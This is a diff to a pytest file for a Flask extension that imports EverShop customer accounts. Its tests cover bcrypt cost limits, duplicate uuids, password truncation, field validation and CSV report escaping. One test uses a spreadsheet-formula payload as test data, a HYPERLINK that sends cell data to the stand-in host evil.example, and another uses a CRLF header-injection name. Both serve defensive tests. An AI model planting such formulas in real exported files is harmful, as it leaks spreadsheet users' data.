@@ -18,8 +18,9 @@ from click.testing import Result
 from flask import Flask
 
 from flask_evershop_customer import evershop_hashes
+from flask_evershop_customer.passwords import PasswordHasher
 
-from .conftest import AppFactory, fresh_database, state_of, table_contents
+from .conftest import CHEAP_HASH, AppFactory, fresh_database, state_of, table_contents
 from .evershop_source import ERAS, Source, bcryptjs_hash
 
 PASSWORD = "correct horse battery"
@@ -64,7 +65,7 @@ def run_import(app: Flask, source: Source, tmp_path: Path, *args: str) -> Result
 
 
 def report_rows(tmp_path: Path) -> list[dict[str, str]]:
-    with (tmp_path / "report.csv").open(encoding="utf-8") as file:
+    with (tmp_path / "report.csv").open(newline="", encoding="utf-8") as file:
         return list(csv.DictReader(file))
 
 
@@ -85,7 +86,7 @@ def test_customers_log_in_with_their_evershop_passwords(
     source = source_factory(era)
     created = datetime(2024, 5, 1, 12, 30, tzinfo=timezone(timedelta(hours=7)))
     alice = source.customer("alice@example.com", created_at=created)
-    source.customer("bob@example.com", TAGGED, full_name=None)
+    source.customer("bob@example.com", TAGGED, full_name="Bob Example")
     source.customer("carol@example.com", status=0)
     source.address("alice@example.com", **ADDRESS, is_default=True)
     source.address("alice@example.com", **{**ADDRESS, "country": "United States"})
@@ -106,7 +107,7 @@ def test_customers_log_in_with_their_evershop_passwords(
     assert row["full_name"] == "Alice Example" and row["status"] == 1
     if era != "rc2":  # rc.2's TIMESTAMP columns were written in the server's zone
         assert row["created_at"] == datetime(2024, 5, 1, 5, 30)
-    assert customers["bob@example.com"]["full_name"] == ""
+    assert customers["bob@example.com"]["full_name"] == "Bob Example"
     assert row["password_hash"].startswith("$2a$04$")
 
     # The old passwords work, once, and the hash becomes the configured method's.
@@ -360,3 +361,184 @@ def test_a_password_longer_than_bcrypt_reads_is_not_stored_at_login(
     run_import(app, short, tmp_path)
     assert login(app, "bob@example.com", PASSWORD).status_code == 200
     assert not stored_hash(app, "bob@example.com").startswith("$2a$")
+
+
+@pytest.mark.parametrize("batch_size", ["1000", "1"])
+def test_one_uuid_in_both_forms_imports_the_first_row_and_reports_the_second(
+    app: Flask, source_factory: Any, tmp_path: Path, batch_size: str
+) -> None:
+    """rc.2 kept uuids as text: one written dashed and once as 32 hex characters is one
+    uuid here. The first row keeps it; the second is reported, dry or not, and the rest
+    of the batch is imported."""
+    source = source_factory("rc2")
+    dashed = _dash(source.customer("alice@example.com"))
+    twin = source.customer("bob@example.com", uuid=dashed)
+    source.customer("carol@example.com")
+    for args in (["--dry-run"], []):
+        result = run_import(app, source, tmp_path, "--batch-size", batch_size, *args)
+        assert result.exit_code == 0, result.output
+        assert result.exception is None
+        assert "2 customers and 0 addresses; 0 updated, 0 already here; skipped 1" in (
+            result.output
+        )
+        [skipped] = report_rows(tmp_path)
+        assert (skipped["uuid"], skipped["email"]) == (twin.replace("-", ""), "bob@example.com")
+        assert "uuid is the same as customer" in skipped["reason"]
+    emails = sorted(row["email"] for row in table_contents(app)["evershop_customer"])
+    assert emails == ["alice@example.com", "carol@example.com"]
+
+
+def _with_cost(cost: str, stored: str | None = None) -> str:
+    """A well-formed bcrypt hash of ``cost`` (two digits), made from a cost-4 one."""
+    return (stored or bcryptjs_hash(PASSWORD)).replace("$04$", f"${cost}$", 1)
+
+
+def test_only_hashes_of_evershops_costs_are_imported(
+    app: Flask, source_factory: Any, tmp_path: Path
+) -> None:
+    """EverShop wrote costs 4 to 14 (10 by default); a hash of another cost (a cost-31
+    login would hold a worker for days) or a malformed one is reported, not imported."""
+    source = source_factory("head")
+    accepted = {"cost4@example.com": "04", "cost14@example.com": "14"}
+    refused = {"cost3@example.com": "03", "cost15@example.com": "15", "cost31@example.com": "31"}
+    for email, cost in {**accepted, **refused}.items():
+        source.customer(email, password_hash=_with_cost(cost))
+    good = bcryptjs_hash(PASSWORD)
+    salt_end = len("$2a$04$") + 21  # the salt's last character carries 4 unused bits
+    source.customer("salt@example.com", password_hash=good[:salt_end] + "z" + good[salt_end + 1 :])
+    result = run_import(app, source, tmp_path)
+    assert "Imported 2 customers" in result.output, result.output
+    reasons = {row["email"]: row["reason"] for row in report_rows(tmp_path)}
+    for email, cost in refused.items():
+        assert reasons[email].startswith(f"password is a bcrypt hash of cost {int(cost)},")
+        assert "outside EverShop's 4 to 14" in reasons[email]
+    assert reasons["salt@example.com"].startswith("password is not a bcrypt hash")
+    assert sorted(r["email"] for r in table_contents(app)["evershop_customer"]) == sorted(accepted)
+
+
+class _NoHashing:
+    """A bcrypt module that fails the test if asked to hash."""
+
+    @staticmethod
+    def checkpw(_password: bytes, _hashed: bytes) -> bool:
+        raise AssertionError("a hash of a cost EverShop never wrote was checked")
+
+
+@pytest.mark.parametrize("cost", ["03", "15", "31", "99"])
+def test_a_stored_hash_of_another_cost_fails_the_login_unchecked(
+    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, cost: str
+) -> None:
+    monkeypatch.setattr(evershop_hashes, "_bcrypt", lambda: _NoHashing)
+    stored = _with_cost(cost)
+    with caplog.at_level(logging.WARNING, logger="flask_evershop_customer.evershop_hashes"):
+        assert not PasswordHasher(CHEAP_HASH).verify(stored, PASSWORD)
+    assert f"cost {int(cost)}, outside EverShop's 4 to 14" in caplog.text
+
+
+@pytest.mark.parametrize(
+    ("sent", "real"),
+    [
+        ("x" * 72, "x" * 72 + " and the rest"),
+        ("é" * 36, "é" * 40),  # 72 UTF-8 bytes of 80
+        ("<b>" + "x" * 67, "<b>" + "x" * 67 + "more"),  # 70 bytes sent, 76 as EverShop escaped
+    ],
+)
+def test_a_password_of_the_72_bytes_bcrypt_read_logs_in_and_keeps_the_hash(
+    app: Flask, source_factory: Any, tmp_path: Path, sent: str, real: str
+) -> None:
+    """bcryptjs read 72 bytes: a password of exactly that many may be the prefix of the
+    real, longer one. It logs in (as on EverShop) but is not stored, so the real one
+    still logs in afterwards."""
+    source = source_factory("head")
+    source.customer("alice@example.com", real)
+    run_import(app, source, tmp_path)
+    assert login(app, "alice@example.com", sent).status_code == 200
+    assert stored_hash(app, "alice@example.com").startswith("$2a$")
+    assert login(app, "alice@example.com", real).status_code == 200
+
+
+def test_no_report_cell_is_a_formula(app: Flask, source_factory: Any, tmp_path: Path) -> None:
+    """Cells from source data that a spreadsheet would take for a formula start with a
+    quote (OWASP's advice); the others are as they were."""
+    source = source_factory("rc2")
+    emails = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx"]
+    for email in emails:
+        source.customer(email)
+    source.customer("plain@example.com", uuid="=1+2")
+    result = run_import(app, source, tmp_path)
+    assert result.exit_code == 0, result.output
+    rows = report_rows(tmp_path)
+    assert sorted(row["email"] for row in rows) == sorted(
+        ["'" + email for email in emails] + ["plain@example.com"]
+    )
+    [bad_uuid] = [row for row in rows if row["email"] == "plain@example.com"]
+    assert bad_uuid["uuid"] == "'=1+2"
+    assert bad_uuid["reason"] == "uuid '=1+2' is not a UUID"
+
+
+def test_names_and_address_lines_follow_the_apis_rules(
+    app: Flask, source_factory: Any, tmp_path: Path
+) -> None:
+    """A name the API would refuse (empty or null, over 255 characters, CR/LF, ESC, BEL)
+    is reported naming the field, and its customer skipped; an address line the API
+    would refuse skips that address, not its customer."""
+    source = source_factory("head")
+    names = {
+        "null@example.com": None,
+        "empty@example.com": "",
+        "crlf@example.com": "Alice\r\nBcc: everyone",
+        "esc@example.com": "Alice \x1b[2J",
+        "bel@example.com": "Alice\x07",
+        "long@example.com": "a" * 256,
+    }
+    for email, name in names.items():
+        source.customer(email, full_name=name)
+    source.customer("alice@example.com", full_name="Zoë d'Ávila-Łukasz 李")
+    source.address("alice@example.com", **ADDRESS)
+    broken = {
+        source.address("alice@example.com", **{**ADDRESS, "city": "Mountain\nView"}): "/city",
+        source.address("alice@example.com", **{**ADDRESS, "full_name": "\x1b[1mA"}): "/full_name",
+        source.address("alice@example.com", **{**ADDRESS, "address_2": "Suite\x07"}): "/address_2",
+    }
+    result = run_import(app, source, tmp_path)
+    assert "Imported 1 customers and 1 addresses" in result.output, result.output
+    rows = report_rows(tmp_path)
+    reasons = {row["email"]: row["reason"] for row in rows if row["table"] == "customer"}
+    assert sorted(reasons) == sorted(names)
+    assert all(reason.startswith("/full_name ") for reason in reasons.values())
+    assert reasons["empty@example.com"] == "/full_name must NOT have fewer than 1 characters"
+    assert reasons["long@example.com"] == "/full_name must NOT have more than 255 characters"
+    for email in ("crlf@example.com", "esc@example.com", "bel@example.com"):
+        assert reasons[email] == "/full_name must not contain control characters"
+    addresses = {row["uuid"]: row["reason"] for row in rows if row["table"] != "customer"}
+    assert {uuid.replace("-", ""): field for uuid, field in broken.items()} == {
+        uuid: reason.partition(" ")[0] for uuid, reason in addresses.items()
+    }
+    [customer] = table_contents(app)["evershop_customer"]
+    assert customer["full_name"] == "Zoë d'Ávila-Łukasz 李"
+
+
+@pytest.mark.parametrize("args", [["--update"], [], ["--update", "--dry-run"]])
+def test_a_customer_registered_here_is_never_refreshed_by_the_import(
+    app: Flask, source_factory: Any, tmp_path: Path, args: list[str]
+) -> None:
+    """A source row naming the uuid of a customer registered here (with that customer's
+    email or another) is reported and skipped: only customers the import wrote are
+    refreshed, or counted as already here."""
+    client = app.test_client(use_cookies=False)
+    registered = {}
+    for email in ("erin@example.com", "frank@example.com"):
+        body = {"email": email, "password": "a password of theirs", "full_name": "Here"}
+        registered[email] = client.post("/api/customers", json=body).get_json()["data"]["uuid"]
+    source = source_factory("head")
+    source.customer("erin@example.com", uuid=_dash(registered["erin@example.com"]))
+    source.customer("mallory@example.com", uuid=_dash(registered["frank@example.com"]))
+    before = table_contents(app)["evershop_customer"]
+    result = run_import(app, source, tmp_path, *args)
+    assert "0 customers and 0 addresses; 0 updated, 0 already here; skipped 2" in result.output
+    reasons = {row["uuid"]: row["reason"] for row in report_rows(tmp_path)}
+    assert reasons == dict.fromkeys(
+        registered.values(), "uuid is already used here by a customer who was not imported"
+    )
+    assert table_contents(app)["evershop_customer"] == before
+    assert login(app, "frank@example.com", "a password of theirs").status_code == 200
